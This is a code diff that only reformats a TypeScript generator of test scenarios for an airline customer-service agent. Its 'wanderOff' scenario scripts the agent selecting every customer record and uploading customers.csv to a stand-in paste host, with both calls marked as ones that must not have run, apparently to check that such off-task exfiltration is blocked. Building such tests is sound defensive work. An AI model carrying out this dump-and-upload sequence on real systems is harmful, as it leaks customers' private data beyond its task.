@@ -36,7 +36,13 @@ interface Customer {
   readonly price: number;
 }
 
-const SCENARIOS: readonly ((who: Customer, random: Random) => Scenario)[] = [bookFlight, cancelTrip, askWeather, changeDate, wanderOff];
+const SCENARIOS: readonly ((who: Customer, random: Random) => Scenario)[] = [
+  bookFlight,
+  cancelTrip,
+  askWeather,
+  changeDate,
+  wanderOff,
+];
 
 /** The next customer. */
 export function nextScenario(random: Random): Scenario {
@@ -53,7 +59,11 @@ export function nextScenario(random: Random): Scenario {
 }
 
 function lookUp({ customerId, reservationId }: Customer): PlannedCall {
-  return { tool: 'get_customer', arguments: { customerId }, result: { customerId, membership: 'gold', reservations: [reservationId] } };
+  return {
+    tool: 'get_customer',
+    arguments: { customerId },
+    result: { customerId, membership: 'gold', reservations: [reservationId] },
+  };
 }
 
 function bookFlight(who: Customer, random: Random): Scenario {
@@ -93,7 +103,11 @@ function askWeather(who: Customer): Scenario {
     story: `${who.customerId} asks about the weather in ${who.to}`,
     calls: [
       { tool: 'get_weather', arguments: { airport: who.to }, result: { sky: 'clear', celsius: 17 } },
-      { tool: 'search_docs', arguments: { query: 'what to do when a flight is delayed by weather' }, result: ['Delays and rebooking'] },
+      {
+        tool: 'search_docs',
+        arguments: { query: 'what to do when a flight is delayed by weather' },
+        result: ['Delays and rebooking'],
+      },
     ],
   };
 }
@@ -118,7 +132,11 @@ function wanderOff(who: Customer): Scenario {
     calls: [
       lookUp(who),
       { tool: 'run_sql', arguments: { statement: 'select * from customers' }, result: 'Error: must not have run' },
-      { tool: 'upload_file', arguments: { url: 'https://paste.example/drop', file: 'customers.csv' }, result: 'Error: must not have run' },
+      {
+        tool: 'upload_file',
+        arguments: { url: 'https://paste.example/drop', file: 'customers.csv' },
+        result: 'Error: must not have run',
+      },
     ],
   };
 }
